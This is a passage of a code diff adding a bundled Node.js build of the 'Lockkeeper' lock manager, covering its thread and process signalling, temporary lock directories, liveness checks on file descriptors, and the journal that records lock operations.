+      if (Atomics.exchange(word, 0, ASLEEP) === RUNG) found = look2() || found;
+      pause = found ? 0 : Math.min(pause * 2 + 1, SELDOM);
+    }
+  };
+};
+
+// glue/platform/node/bell.js
+var LOOK = 20;
+var ACQUAINTED = 16;
+var createThreadBell = (title) => {
+  const vigil = createVigil();
+  let name = "";
+  let own;
+  const others = /* @__PURE__ */ new Map();
+  const open3 = (client) => {
+    const channel = (
+      /** @type {any} */
+      new import_node_worker_threads.BroadcastChannel(`${title}:${client}`)
+    );
+    channel.unref?.();
+    return channel;
+  };
+  const find2 = (client) => {
+    let other = others.get(client);
+    if (!other) others.set(client, other = { channel: open3(client), rings: 0 });
+    return other;
+  };
+  const introduced = ({ from, word }) => {
+    const other = others.get(from);
+    if (other) other.word = word;
+  };
+  const forget = (client) => {
+    others.get(client)?.channel.close();
+    others.delete(client);
+  };
+  const post = (client, message) => {
+    try {
+      find2(client).channel.postMessage(message);
+    } catch {
+      forget(client);
+      find2(client).channel.postMessage(message);
+    }
+  };
+  const bell = {
+    /** @param {string} client @param {Ears} ears */
+    listen(client, { rung }) {
+      name = client;
+      own = open3(client);
+      own.onmessage = ({ data }) => {
+        if (data && data.word) introduced(data);
+        else rung(data, () => {
+        });
+      };
+      own.unref?.();
+    },
+    /** @param {string} client @param {any} [message] */
+    ring(client, message = 0) {
+      const other = find2(client);
+      if (!message && other.word && ringAwake(other.word)) return;
+      post(client, message);
+      if (++other.rings === ACQUAINTED) post(client, { from: name, word: vigil.word });
+    },
+    /** @param {string[]} clients @param {any} message */
+    ringAll: (clients, message) => clients.forEach((client) => bell.ring(client, message)),
+    stayAwake: vigil.keep,
+    forget,
+    close() {
+      own?.close();
+      [...others.keys()].forEach(forget);
+    }
+  };
+  return bell;
+};
+var watchFile = (path, onChange, platform) => {
+  const poll = () => {
+    const timer2 = (0, import_node_timers.setInterval)(onChange, LOOK).unref();
+    return () => (0, import_node_timers.clearInterval)(timer2);
+  };
+  if (platform === "win32") return poll();
+  let stop = () => {
+  };
+  try {
+    const watcher = (0, import_node_fs.watch)(path, { persistent: false }, onChange);
+    watcher.on("error", () => {
+      watcher.close();
+      stop = poll();
+    });
+    stop = () => watcher.close();
+  } catch {
+    stop = poll();
+  }
+  return () => stop();
+};
+var createProcessBell = (platform, lines) => {
+  let ears;
+  const watches2 = /* @__PURE__ */ new Map();
+  const stop = (what) => {
+    watches2.get(what)?.stop();
+    watches2.delete(what);
+  };
+  const start = (what, path) => {
+    if (watches2.get(what)?.path === path) return;
+    stop(what);
+    watches2.set(what, { path, stop: watchFile(path, () => ears[what](), platform) });
+    ears.rung(void 0, () => {
+    });
+  };
+  const rest = () => {
+    stop("stirred");
+    stop("alarmed");
+  };
+  return {
+    listen(client, given) {
+      ears = given;
+      lines.listen(client, ears.rung, ears.cut);
+    },
+    ring: lines.say,
+    ringAll(clients, message, path) {
+      const now3 = /* @__PURE__ */ new Date();
+      try {
+        (0, import_node_fs.utimesSync)(path, now3, now3);
+      } catch {
+      }
+    },
+    stayAwake() {
+    },
+    forget: lines.forget,
+    kernel: {
+      heed: (path) => start("alarmed", path),
+      attend(path) {
+        if (watches2.get("alarmed")?.path !== path) start("stirred", path);
+      },
+      unattend: () => stop("stirred"),
+      rest
+    },
+    close() {
+      rest();
+      lines.close();
+    }
+  };
+};
+
+// glue/platform/node/descriptors.js
+var descriptors_exports = {};
+__export(descriptors_exports, {
+  bury: () => bury,
+  holdAlive: () => holdAlive,
+  isAlive: () => isAlive,
+  pathOf: () => pathOf,
+  watchAlive: () => watchAlive
+});
+var import_node_buffer = require("node:buffer");
+var import_node_fs3 = require("node:fs");
+var import_promises = require("node:fs/promises");
+var import_node_path2 = require("node:path");
+var import_node_process2 = __toESM(require("node:process"), 1);
+var import_node_timers2 = require("node:timers");
+var import_node_worker_threads2 = require("node:worker_threads");
+
+// glue/platform/node/directory.js
+var import_node_crypto = require("node:crypto");
+var import_node_fs2 = require("node:fs");
+var import_node_os2 = require("node:os");
+var import_node_path = require("node:path");
+var import_node_process = __toESM(require("node:process"), 1);
+var tell = (read) => {
+  try {
+    return read();
+  } catch {
+    return "";
+  }
+};
+var codeOf = (error) => (
+  /** @type {NodeJS.ErrnoException} */
+  error.code || ""
+);
+var roots = () => import_node_process.default.platform === "win32" ? [(0, import_node_path.join)((0, import_node_os2.userInfo)().homedir, "AppData", "Local", "Temp")] : ["/tmp", "/dev/shm", "/var/tmp"];
+var ABSENT = ["ENOENT", "ENOTDIR"];
+var UNUSABLE = [...ABSENT, "EROFS", "EACCES", "EPERM"];
+var FORGOTTEN = 7 * 24 * 3600 * 1e3;
+var make = (path) => {
+  try {
+    (0, import_node_fs2.mkdirSync)(path, { mode: 448 });
+    return true;
+  } catch (error) {
+    if (codeOf(error) !== "EEXIST") throw error;
+    return false;
+  }
+};
+var userId = () => import_node_process.default.geteuid?.();
+var check2 = (path, advice) => {
+  const user = userId();
+  if (user === void 0) return;
+  const found = (0, import_node_fs2.lstatSync)(path);
+  const fault = !found.isDirectory() ? "is no directory" : found.uid !== user ? "belongs to another user" : found.mode & 63 ? "can be entered by other users" : "";
+  if (fault) throw new Error(`Lockkeeper: ${path} ${fault}. ${advice}`);
+};
+var isOurs = (path) => {
+  const found = (0, import_node_fs2.lstatSync)(path, { throwIfNoEntry: false });
+  return !!found && (userId() === void 0 || found.uid === userId());
+};
+var openIn = (title, parents, advice, alternative = "") => {
+  const paths = parents.map((parent) => (0, import_node_path.join)(parent, title));
+  const known = paths.find((path) => tell(() => isOurs(path) ? path : ""));
+  let failure;
+  for (const path of known ? [known] : paths) {
+    try {
+      const isNew = make(path);
+      check2(path, advice);
+      return { path, isNew };
+    } catch (error) {
+      if (!UNUSABLE.includes(codeOf(error))) throw error;
+      failure = failure || error;
+    }
+  }
+  const remedy = `${ABSENT.includes(codeOf(failure)) ? "Create the directory" : "Let this user write to"} ${parents.join(" or ")}`;
+  throw new Error(`Lockkeeper: no directory can be made for the locks (${failure.message}). ${remedy}${alternative}.`, { cause: failure });
+};
+var startOf = (pid) => tell(() => (0, import_node_fs2.readFileSync)(`/proc/${pid}/stat`, "latin1").replace(/^.*\)/s, "").split(" ")[20]);
+var namespaceOf = () => tell(() => (0, import_node_fs2.readlinkSync)("/proc/self/ns/pid").replace(/\D/g, ""));
+var bootOf = () => tell(() => (0, import_node_fs2.readFileSync)("/proc/sys/kernel/random/boot_id", "latin1").slice(0, 8));
+var hashOf = (name) => (0, import_node_crypto.createHash)("sha256").update(Buffer.from(name, "utf16le")).digest("base64url").slice(0, 12);
+var lives = (pid, start) => {
+  try {
+    import_node_process.default.kill(pid, 0);
+  } catch (error) {
+    return codeOf(error) !== "ESRCH";
+  }
+  const now3 = startOf(pid);
+  return !now3 || now3 === start;
+};
+var isForgotten = (path) => {
+  const places = [path, (0, import_node_path.join)(path, "log", "0"), ...(0, import_node_fs2.readdirSync)(path).map((each) => (0, import_node_path.join)(path, each, "log", "0"))];
+  const touched = places.map((place) => (0, import_node_fs2.lstatSync)(place, { throwIfNoEntry: false })?.mtimeMs || 0);
+  return Date.now() - Math.max(...touched) > FORGOTTEN;
+};
+var sweep = (parent, isLeftover) => {
+  for (const entry of (0, import_node_fs2.readdirSync)(parent)) {
+    const path = (0, import_node_path.join)(parent, entry);
+    tell(() => String(isLeftover(entry, path) && isOurs(path) && (0, import_node_fs2.rmSync)(path, { recursive: true, force: true })));
+  }
+};
+var CHANGED_USER = "Where the process changes its user (setuid), it must do so before the first lock is asked for; where another user has made this directory, it must be removed.";
+var openProcess = () => {
+  const namespace = namespaceOf();
+  const isKnown = !!namespace || import_node_process.default.platform !== "linux";
+  const title = `lockkeeper-process-${import_node_process.default.pid}-${namespace}-${startOf("self")}`;
+  const { path, isNew } = openIn(title, roots(), CHANGED_USER);
+  if (isNew) {
+    sweep((0, import_node_path.dirname)(path), (entry, place) => {
+      const [, pid, where, start] = /^lockkeeper-process-(\d+)-(\d*)-(\d*)$/.exec(entry) || [];
+      return !!pid && (isKnown && where === namespace ? !lives(Number(pid), start) : isForgotten(place));
+    });
+  }
+  return path;
+};
+var openHost = (name, parent) => {
+  const user = userId() ?? tell(() => (0, import_node_os2.userInfo)().username);
+  const alternative = `, or give all processes the same other directory: createLockManager({ scope: 'host', directory })`;
+  const base = openIn(`lockkeeper-${user}`, parent === void 0 ? roots() : [parent], `Remove it${alternative}.`, alternative).path;
+  const boot = bootOf();
+  const path = (0, import_node_path.join)(base, `host-${boot}-${hashOf(name)}`);
+  if (make(path)) sweep(base, (entry, place) => /^host-/.test(entry) && !entry.startsWith(`host-${boot}-`) && isForgotten(place));
+  return path;
+};
+var openDirectory = (name, { scope = "process", directory }) => {
+  if (scope === "host") {
+    try {
+      openProcess();
+    } catch (error) {
+      if (!/** @type {Error} */
+      error.cause) throw error;
+    }
+    return openHost(name, directory);
+  }
+  const path = (0, import_node_path.join)(openProcess(), hashOf(name));
+  make(path);
+  return path;
+};
+
+// glue/platform/node/descriptors.js
+var LOOK2 = 20;
+var watches = /* @__PURE__ */ new Set();
+var timer;
+var proven = false;
+var tried = false;
+var look = (each) => {
+  if (each.lives() || !watches.delete(each)) return;
+  each.stop();
+  each.onDeath();
+};
+var setLooking = () => {
+  const needed = [...watches].some(({ told }) => !told || !proven);
+  if (needed) timer = timer || (0, import_node_timers2.setInterval)(lookAtAll, LOOK2).unref();
+  else {
+    (0, import_node_timers2.clearInterval)(timer);
+    timer = void 0;
+  }
+};
+var lookAtAll = () => {
+  [...watches].forEach(look);
+  setLooking();
+};
+var watchFile2 = (descriptor, onEnd) => {
+  const watcher = (0, import_node_fs3.watch)(`/proc/self/fd/${descriptor}`, { persistent: false }, onEnd);
+  watcher.on("error", () => {
+  });
+  return () => watcher.close();
+};
+var tryOut = (path) => {
+  if (tried) return;
+  tried = true;
+  try {
+    const descriptor = (0, import_node_fs3.openSync)(path, "wx+", 384);
+    (0, import_node_fs3.unlinkSync)(path);
+    const stop = watchFile2(descriptor, () => {
+      proven = true;
+      stop();
+      setLooking();
+    });
+    (0, import_node_fs3.closeSync)(descriptor);
+  } catch {
+  }
+};
+var find = (path) => {
+  try {
+    const text2 = (0, import_node_fs3.readFileSync)(path, "latin1");
+    const [number, inode, mark] = text2.split(" ");
+    const descriptor = Number(number);
+    const expected = import_node_buffer.Buffer.from(mark);
+    const read = import_node_buffer.Buffer.alloc(expected.length);
+    return {
+      descriptor,
+      // Descriptors and inodes are reused. Only the content of the file belongs to its owner alone.
+      lives() {
+        try {
+          const found = (0, import_node_fs3.fstatSync)(descriptor);
+          return found.isFile() && String(found.ino) === inode && (0, import_node_fs3.readSync)(descriptor, read, 0, read.length, 0) === read.length && read.equals(expected);
+        } catch (error) {
+          return !["EBADF", "ESPIPE", "EISDIR"].includes(codeOf(error));
+        }
+      }
+    };
+  } catch (error) {
+    const gone = codeOf(error) === "ENOENT";
+    return { descriptor: -1, lives: () => !gone };
+  }
+};
+var pathOf = (directory, client) => (0, import_node_path2.join)(directory, client);
+var holdAlive = async (path) => {
+  const handle = await (0, import_promises.open)(`${path}-`, "wx+", 384);
+  const release = () => {
+    (0, import_node_fs3.rmSync)(path, { force: true });
+    handle.close().catch(() => {
+    });
+  };
+  try {
+    (0, import_node_fs3.unlinkSync)(`${path}-`);
+    const mark = (0, import_node_path2.basename)(path);
+    (0, import_node_fs3.writeSync)(handle.fd, mark);
+    (0, import_node_fs3.writeFileSync)(path, `${handle.fd} ${(0, import_node_fs3.fstatSync)(handle.fd).ino} ${mark}`, { flag: "wx", mode: 384 });
+  } catch (error) {
+    release();
+    throw error;
+  }
+  const { port1 } = new import_node_worker_threads2.MessageChannel();
+  port1.on("message", () => {
+  });
+  port1.unref();
+  return {
+    ref: () => port1.ref(),
+    unref: () => port1.unref(),
+    close() {
+      port1.close();
+      release();
+    }
+  };
+};
+var watchAlive = (path, onDeath) => {
+  const { descriptor, lives: lives2 } = find(path);
+  const own = { lives: lives2, onDeath, told: false, stop() {
+  } };
+  watches.add(own);
+  try {
+    if (import_node_process2.default.platform === "linux") {
+      own.stop = watchFile2(descriptor, () => look(own));
+      own.told = true;
+      tryOut(`${path}+`);
+    }
+  } catch {
+  }
+  (0, import_node_timers2.setImmediate)(() => look(own));
+  setLooking();
+  return () => {
+    watches.delete(own);
+    own.stop();
+    setLooking();
+  };
+};
+var isAlive = async (path) => find(path).lives();
+var bury = (path) => (0, import_node_fs3.rmSync)(path, { force: true });
+
+// glue/platform/node/journal.js
+var import_node_buffer3 = require("node:buffer");
+var import_node_fs6 = require("node:fs");
+
+// glue/platform/node/beginning.js
+var HEAD = '{"head":';
+var MARK = '\n{"mark":';
+var CLOSE = '\n{"close":';
+var lineAt = (bytes, start) => {
+  const end = bytes.indexOf("\n", start);
+  if (start < 0 || end < 0) return void 0;
+  try {
+    return JSON.parse(bytes.toString("utf8", start, end));
+  } catch {
+    return void 0;
+  }
+};
+var findBeginning = (bytes) => {
+  const start = bytes.indexOf(HEAD);
+  if (start < 0 || start > 0 && bytes[start - 1] !== CLOSE.charCodeAt(0)) return void 0;
+  const head = lineAt(bytes, start);
+  if (!head) return void 0;
+  const closed = bytes.indexOf(CLOSE, start);
+  if (closed >= 0) {
+    const close = lineAt(bytes, closed + 1);
+    return close && { head, close };
+  }
+  const marked = bytes.lastIndexOf(MARK);
+  return { head, mark: marked > start ? lineAt(bytes, marked + 1) : void 0 };
+};
+
+// glue/platform/node/files.js
+var import_node_fs4 = require("node:fs");
+var import_node_path3 = require("node:path");
+var { O_APPEND, O_CREAT, O_EXCL, O_RDWR } = import_node_fs4.constants;
+var FIRST = "0";
+var numberOf2 = (name) => parseInt(name, 10);
+var createFiles = (directory) => {
+  const folder = (0, import_node_path3.join)(directory, "log");
+  const path = (name) => (0, import_node_path3.join)(folder, name);
+  const list = () => (0, import_node_fs4.readdirSync)(folder);
+  const open3 = (name, flags = 0) => (0, import_node_fs4.openSync)(path(name), flags | O_RDWR | O_APPEND, 384);
+  return {
+    folder,
+    path,
+    /** Opens the first file, and makes it if it is missing. @returns {number} */
+    openFirst() {
+      try {
+        (0, import_node_fs4.mkdirSync)(folder, { mode: 448 });
+      } catch (error) {
+        if (codeOf(error) !== "EEXIST") throw error;
+      }
+      return open3(FIRST, O_CREAT);
+    },
+    /** @param {string} name @returns {number} -1 if it is missing */
+    open(name) {
+      try {
+        return open3(name);
+      } catch (error) {
+        if (codeOf(error) !== "ENOENT") throw error;
+        return -1;
+      }
+    },
+    /** Makes a new one, empty. @param {string} name */
+    create: (name) => (0, import_node_fs4.closeSync)(open3(name, O_CREAT | O_EXCL)),
+    /** @returns {string[]} their names, the newest last */
+    list: () => list().sort((a, b) => numberOf2(a) - numberOf2(b)),
+    /** @param {string} name @returns {number} 0 if it is missing */
+    inodeOf: (name) => (0, import_node_fs4.statSync)(path(name), { throwIfNoEntry: false })?.ino || 0,
+    /**
+     * Removes files that are no longer needed.
+     * @param {string} current the file that is being written
+     * @param {string} [vain] a file that was made to come next, but another writer's close came first
+     */
+    removeOld(current, vain) {
+      const number = numberOf2(current);
+      for (const each of list()) {
+        const unnamed = vain ? each === vain : numberOf2(each) === number && each !== current;
+        const old = numberOf2(each) < number && each !== FIRST;
+        if (unnamed || old) (0, import_node_fs4.rmSync)(path(each), { force: true });
+      }
+    },
+    /** So that nobody takes them for forgotten ones. @param {string[]} names */
+    touch(names) {
+      const time = /* @__PURE__ */ new Date();
+      for (const each of names) (0, import_node_fs4.utimesSync)(path(each), time, time);
+    }
+  };
+};
+
+// glue/platform/node/records.js
+var REQUEST = 0;
+var DROP = 1;
+var FORCE_RELEASE = 2;
+var JOIN = 3;
+var GONE = 4;
+var TICK = 5;
+var EXCLUSIVE = 1;
+var IF_AVAILABLE2 = 2;
+var STEAL2 = 4;
+var LIMITED = 8;
+var PLAIN = /^[ !#-[\]-~]*$/;
+var quote = (text2) => PLAIN.test(text2) ? `"${text2}"` : JSON.stringify(text2);
+var listOf = (names) => names.length === 1 ? quote(names[0]) : names.map(quote).join();
+var durationOf = (duration = Infinity) => duration < Infinity ? duration : "null";
+var encodeOperation = (operation) => {
+  switch (operation.type) {
+    case "request": {
+      const { mode, ifAvailable, steal, limit, wait, hold: hold2, names } = operation;
+      const flags = (mode === "exclusive" ? EXCLUSIVE : 0) + (ifAvailable ? IF_AVAILABLE2 : 0) + (steal ? STEAL2 : 0) + (limit ? LIMITED : 0);
+      const start = `[${REQUEST},${flags},${durationOf(wait)},${durationOf(hold2)},`;
+      return `${start}${limit ? `${limit},` : ""}${listOf(names)}]`;
+    }
+    case "drop":
+      return `[${DROP},${operation.request}]`;
+    case "force-release":
+      return `[${FORCE_RELEASE},${listOf(operation.names)}]`;
+    case "join":
+      return `[${JOIN}]`;
+    case "gone":
+      return `[${GONE},${JSON.stringify(operation.client)}]`;
+    default:
+      return `[${TICK},${operation.now}]`;
+  }
+};
+var encode = ({ by, operations }) => {
+  let first = 0;
+  let text2 = "";
+  for (const operation of operations) {
+    if (!first && "number" in operation) first = operation.number;
+    text2 += `,${encodeOperation(operation)}`;
+  }
+  return `[${quote(by)},${first}${text2}]`;
+};
+var decodeOperation = (client, number, fields) => {
+  switch (fields[0]) {
+    case REQUEST: {
+      const [, flags, wait, hold2, ...rest] = fields;
+      const limit = flags & LIMITED ? rest.shift() : 0;
+      const operation = { type: "request", client, number, names: rest, mode: flags & EXCLUSIVE ? "exclusive" : "shared" };
+      if (limit) operation.limit = limit;
+      if (flags & IF_AVAILABLE2) operation.ifAvailable = true;
+      if (flags & STEAL2) operation.steal = true;
+      if (wait !== null) operation.wait = wait;
+      if (hold2 !== null) operation.hold = hold2;
+      return operation;
+    }
+    case DROP:
+      return { type: "drop", client, number, request: fields[1] };
+    case FORCE_RELEASE:
+      return { type: "force-release", client, number, names: fields.slice(1) };
+    case JOIN:
+      return { type: "join", client, number };
+    case GONE:
+      return { type: "gone", client: fields[1] };
+    default:
+      return { type: "tick", now: fields[1] };
+  }
+};
+var decode2 = ([by, first, ...fields]) => {
+  let number = first;
+  const operations = [];
+  for (const each of fields) operations.push(decodeOperation(by, each[0] < GONE ? number++ : 0, each));
+  return { by, operations };
+};
+
+// glue/platform/node/writer.js
+var import_node_buffer2 = require("node:buffer");
+var import_node_fs5 = require("node:fs");
+var createWriter = () => {
+  let outgoing = import_node_buffer2.Buffer.allocUnsafeSlow(16 * 1024);
+  let written = { length: 0, record: (
+    /** @type {any} */
+    void 0
+  ) };
+  const writer = {
+    /** @param {number} descriptor @param {any} record @param {string} [before] */
+    append(descriptor, record, before = "") {
+      const text2 = `${before}${record.by ? encode(record) : JSON.stringify(record)}
+`;
+      if (text2.length * 3 > outgoing.length) outgoing = import_node_buffer2.Buffer.allocUnsafeSlow(text2.length * 4);
+      const length = outgoing.write(text2);
+      written = { length, record };
+      if ((0, import_node_fs5.writeSync)(descriptor, outgoing, 0, length) === length) return;
+      if (before) throw Object.assign(new Error("there is no space for an entry"), { code: "ENOSPC", syscall: "write" });
+      writer.append(descriptor, record, "\n");
+    },
+    /**
+     * The record that was appended last, if [count] bytes of [incoming] are just that record.
+     * @param {Buffer} incoming
+     * @param {number} count
+     */
+    takeBack(incoming, count) {
+      if (count !== written.length || incoming.compare(outgoing, 0, count, 0, count) !== 0) return void 0;
+      writer.forget();
+      return written.record;
+    },
+    /** The record that was appended last will not be read back as it was. */
+    forget() {
+      written.length = 0;
+    }
+  };
+  return writer;
+};
+
+// glue/platform/node/journal.js
+var FORMAT = 4;
+var SIZES = { first: 16 * 1024, next: 64 * 1024, marks: 8 * 1024 };
+var HEADS = 4;
+var ATTEMPTS = 1e3;
+var NEWLINE = 10;
+var createJournal = ({ directory, randomId: randomId3, snapshot, begin, restore, apply, sizes = SIZES }) => {
+  const files = createFiles(directory);
+  let descriptor = -1;
+  let firstInode = 0;
+  let name = "";
+  let position = 0;
+  let limit = sizes.first;
+  let markAt = Infinity;
+  let headed = false;
+  let former = false;
+  let heir = false;
+  let astray = true;
+  let closing;
+  let leftOut = "";
+  let thorough = false;
+  let candidates = [];
+  let incoming = import_node_buffer3.Buffer.allocUnsafeSlow(16 * 1024);
+  const writer = createWriter();
+  const goTo = (next, opened) => {
+    if (descriptor >= 0) (0, import_node_fs6.closeSync)(descriptor);
+    descriptor = opened;
+    name = next;
+    position = 0;
+    headed = former = heir = false;
+    closing = void 0;
+    writer.forget();
+  };
+  const append = (record, before) => writer.append(descriptor, record, before);
+  const appendHead = (state) => append({ head: FORMAT, state: import_node_buffer3.Buffer.from(state).toString("base64") }, "\n");
+  const marked = (state, from) => {
+    markAt = from + Math.max(sizes.marks, HEADS * state.length);
+  };
+  const takeHead = ({ head, state }, mark) => {
+    if (headed) return;
+    if (head > FORMAT) {
+      throw new Error(`Lockkeeper: ${files.folder} was written by a newer version of the package. Use that version here too.`);
+    }
+    headed = true;
+    former = head < FORMAT;
+    if (former) return;
+    limit = Math.max(name === FIRST ? sizes.first : sizes.next, HEADS * state.length);
+    marked(state, mark ? mark.mark : 0);
+    if (!astray) return;
+    astray = false;
+    if (mark) position = mark.mark;
+    restore(import_node_buffer3.Buffer.from(mark ? mark.state : state, "base64"));
+  };
+  const take = (record) => {
+    if (record.head) takeHead(record);
+    else if (!headed) return;
+    else if (record.close) closing = record;
+    else if (former) return;
+    else if (record.mark) marked(record.state, record.mark);
+    else apply(record);
+  };
+  const tryOpen = (next) => {
+    const opened = files.open(next);
+    if (opened >= 0) goTo(next, opened);
+    return opened >= 0;
+  };
+  const openNewest = () => {
+    astray = true;
+    for (let attempt = 0; attempt < ATTEMPTS; attempt++) {
+      if (!candidates.length) candidates = files.list();
+      const next = candidates.pop();
+      if (next && tryOpen(next)) return;
+    }
+    throw new Error(`Lockkeeper: nothing to be read in ${files.folder}`);
+  };
+  const formerJournal = () => Object.assign(new Error(
+    `Lockkeeper: an older version of the package is at work in ${files.folder}. End its threads and processes, or give them this version.`
+  ), { isFormer: true });
+  const provideHead = () => {
+    if (name === FIRST) appendHead(begin());
+    else if (heir) throw formerJournal();
+    else if (leftOut && astray && tryOpen(leftOut)) thorough = true;
+    else if (astray) openNewest();
+    else appendHead(snapshot());
+  };
+  const follow2 = ({ close }) => {
+    const anew = former;
+    candidates = [];
+    if (tryOpen(close)) heir = anew;
+    else openNewest();
+  };
+  const leap = () => {
+    if (thorough) return false;
+    const { size } = (0, import_node_fs6.fstatSync)(descriptor);
+    if (incoming.length < size) incoming = import_node_buffer3.Buffer.allocUnsafeSlow(size * 2);
+    const beginning = findBeginning(incoming.subarray(0, (0, import_node_fs6.readSync)(descriptor, incoming, 0, size, 0)));
+    if (!beginning) return false;
+    const { head, close, mark } = beginning;
+    leftOut = "";
+    if (close && head.head <= FORMAT) {
+      const before = name;
+      former = head.head < FORMAT;
+      leftOut = former ? "" : before;
+      follow2(close);
+    } else takeHead(head, mark);
+    return !former || !!close;
+  };
+  const takeLines = (end2) => {
+    for (let start = 0; start < end2; ) {
+      const stop = incoming.indexOf(NEWLINE, start);
+      let record;
+      try {
+        record = JSON.parse(incoming.toString("utf8", start, stop));
+      } catch {
+      }
+      position += stop + 1 - start;
+      start = stop + 1;
+      if (record) take(Array.isArray(record) ? decode2(record) : record);
+      if (closing) return;
+    }
+  };
+  const readSome = () => {
+    if (closing) {
+      follow2(closing);
+      return false;
+    }
+    if (astray && position === 0 && leap()) return false;
+    const count = (0, import_node_fs6.readSync)(descriptor, incoming, 0, incoming.length, position);
+    if (count === 0) return true;
+    const record = headed && writer.takeBack(incoming, count);
+    if (record) {
+      position += count;
+      take(record);
+      return !closing;
+    }
+    const end2 = incoming.lastIndexOf(NEWLINE, count - 1) + 1;
+    if (end2 === 0 && count === incoming.length) incoming = import_node_buffer3.Buffer.allocUnsafeSlow(incoming.length * 2);
+    else {
+      takeLines(end2);
+      return !closing && count < incoming.length;
+    }
+    return false;
+  };
+  const read = () => {
+    for (; ; ) {
+      if (!readSome()) continue;
+      thorough = false;
+      if (former) throw formerJournal();
+      if (headed) return;
+      provideHead();
+    }
+  };
+  const end = () => {
+    const next = `${numberOf2(name) + 1}-${randomId3()}`;
+    files.create(next);
+    append({ close: next });
+    return next;
+  };
+  const rotate = () => {
+    const before = numberOf2(name);
+    const next = end();
+    read();
+    files.removeOld(name, numberOf2(name) === before ? next : void 0);
+  };
+  return {
+    /** Goes to the end of the chain, and restores the state. Throws an error with [isFormer] if the last file has an earlier format. */
+    open() {
+      const first = files.openFirst();
+      astray = true;
+      goTo(FIRST, first);
+      firstInode = (0, import_node_fs6.fstatSync)(descriptor).ino;
+      read();
+    },
+    /**
+     * Call it after open() has found an earlier format and nobody lives who writes that format. It closes the last file; or, if that is
+     * closed, it begins the next file with an empty state. Another context may have done so first. Call open() again to see the result.
+     */
+    succeed() {
+      if (former) end();
+      else appendHead(begin());
+    },
+    path: () => files.path(name),
+    /** The file that exists as long as the journal does. */
+    firstPath: () => files.path(FIRST),
+    position: () => position,
+    number: () => numberOf2(name),
+    append,
+    read,
+    /** Call it after writing: begins a new file, or writes a mark, if this file has become long. */
+    tidy() {
+      if (position > limit) rotate();
+      else if (position > markAt) {
+        append({ mark: position, state: import_node_buffer3.Buffer.from(snapshot()).toString("base64") });
+        read();
+      }
+    },
+    /** Whether somebody has removed the journal: its first file, or the file that is being written. */
+    isRemoved() {
+      if (files.inodeOf(FIRST) !== firstInode) return true;
+      if ((0, import_node_fs6.fstatSync)(descriptor).nlink > 0) return false;
+      const before = name;
+      read();
+      return name === before;
+    },
+    /** Shows that the files are in use. */
+    touch: () => files.touch([FIRST, name]),
+    close() {
+      if (descriptor >= 0) (0, import_node_fs6.closeSync)(descriptor);
+      descriptor = -1;
+    }
+  };
+};
+
+// glue/platform/node/lines.js
+var KEEP = 64;
+var MOST_WAITING = 64 * 1024;
+var ignore = () => {
+};
+var write = (socket, message) => {
+  if (socket.destroyed) return;
+  if (socket.writableLength > MOST_WAITING) socket.destroy();
+  else socket.write(message ? `${JSON.stringify(message)}
+` : "\n");
+};
+var parse = (line) => {
+  if (!line) return void 0;
+  try {
+    return JSON.parse(line);
+  } catch {
+    return void 0;
+  }
+};
+var readLines = (socket, take) => {
+  let rest = "";
+  socket.setEncoding("utf8");
+  socket.on("data", (text2) => {
+    const lines = (rest + text2).split("\n");
+    rest = lines.pop() || "";
+    lines.forEach(take);
+  });
+};
+var createLines = ({ holdAlive: holdAlive2, watchAlive: watchAlive2 }, pathOf4) => {
+  let name = "";
+  let onMessage = (
+    /** @type {(message: any, answer: Answer) => void} */
+    ignore
+  );
+  let onCut = (
+    /** @type {(client: string) => void} */
+    ignore
+  );
+  const incoming = /* @__PURE__ */ new Map();
+  const outgoing = /* @__PURE__ */ new Map();
+  const take = (socket, line) => onMessage(parse(line), (message) => write(socket, message));
+  const end = (client, line) => {
+    if (outgoing.get(client) === line) outgoing.delete(client);
+    line.stop();
+  };
+  const tidy = () => {
+    if (outgoing.size <= KEEP) return;
+    for (const [client, line] of outgoing) {
+      if (line.isWatched) continue;
+      end(client, line);
+      onCut(client);
+      return;
+    }
+  };
+  const open3 = (client) => {
+    const line = { onDeath: ignore, onFailure: ignore, isWatched: false, stop: ignore };
+    outgoing.set(client, line);
+    const onDeath = () => {
+      end(client, line);
+      line.onDeath();
+    };
+    line.stop = watchAlive2(pathOf4(client), onDeath, (error) => line.onFailure(error), (socket) => {
+      line.socket = socket;
+      socket.write(`${name}
+`);
+      readLines(socket, (text2) => take(socket, text2));
+      socket.on("close", () => outgoing.get(client) === line && onCut(client));
+    });
+    tidy();
+    return line;
+  };
+  return {
+    /** Shows that [client], this context, lives. Others may then connect. @param {string} client */
+    async hold(client) {
+      const accepted = /* @__PURE__ */ new Set();
+      const { ref, unref, close } = await holdAlive2(pathOf4(client), (socket) => {
+        let from = "";
+        accepted.add(socket);
+        readLines(socket, (text2) => {
+          if (from) take(socket, text2);
+          else incoming.set(from = text2, socket);
+        });
+        socket.on("close", () => {
+          accepted.delete(socket);
+          if (incoming.get(from) !== socket) return;
+          incoming.delete(from);
+          onCut(from);
+        });
+      });
+      return {
+        ref,
+        unref,
+        close() {
+          close();
+          accepted.forEach((socket) => socket.destroy());
+        }
+      };
+    },
+    /**
+     * @param {string} client
+     * @param {() => void} onDeath
+     * @param {(error: Error) => void} onFailure
+     * @returns {() => void} stops the watch
+     */
+    watch(client, onDeath, onFailure) {
+      const line = outgoing.get(client) || open3(client);
+      Object.assign(line, { onDeath, onFailure, isWatched: true });
+      return () => void Object.assign(line, { onDeath: ignore, onFailure: ignore, isWatched: false });
+    },
+    /**
+     * Messages from others come here from now on.
+     * @param {string} client this context
+     * @param {(message: any, answer: Answer) => void} hear
+     * @param {(client: string) => void} cut the connection with [client] has ended, so its last message may be lost
+     */
+    listen(client, hear, cut) {
+      name = client;
+      onMessage = hear;
+      onCut = cut;
+    },
+    /** @param {string} client @param {any} [message] */
+    say(client, message) {
+      const socket = incoming.get(client) || (outgoing.get(client) || open3(client)).socket;
+      if (socket) write(socket, message);
+    },
+    /** [client] has gone. @param {string} client */
+    forget(client) {
+      const line = outgoing.get(client);
+      if (line) end(client, line);
+      incoming.get(client)?.destroy();
+    },
+    close() {
+      onMessage = onCut = ignore;
+      outgoing.forEach((line, client) => end(client, line));
+    }
+  };
+};
+
+// glue/log/own-requests.js
+var MANY = 64;
+var createOwnRequests = (operationAdded, mayKeep) => {
+  let client = "";
+  let last = 0;
+  let open3 = /* @__PURE__ */ new Map();
+  const outstanding = /* @__PURE__ */ new Map();
+  let released = (
+    /** @type {any} */
+    {}
+  );
+  const changed = /* @__PURE__ */ new Set();
+  const isEntered = ({ status, news }) => status === "held" || news === "granted";
+  const isAwaited = ({ resolve: resolve3 }) => !!resolve3;
+  const add = (operation) => {
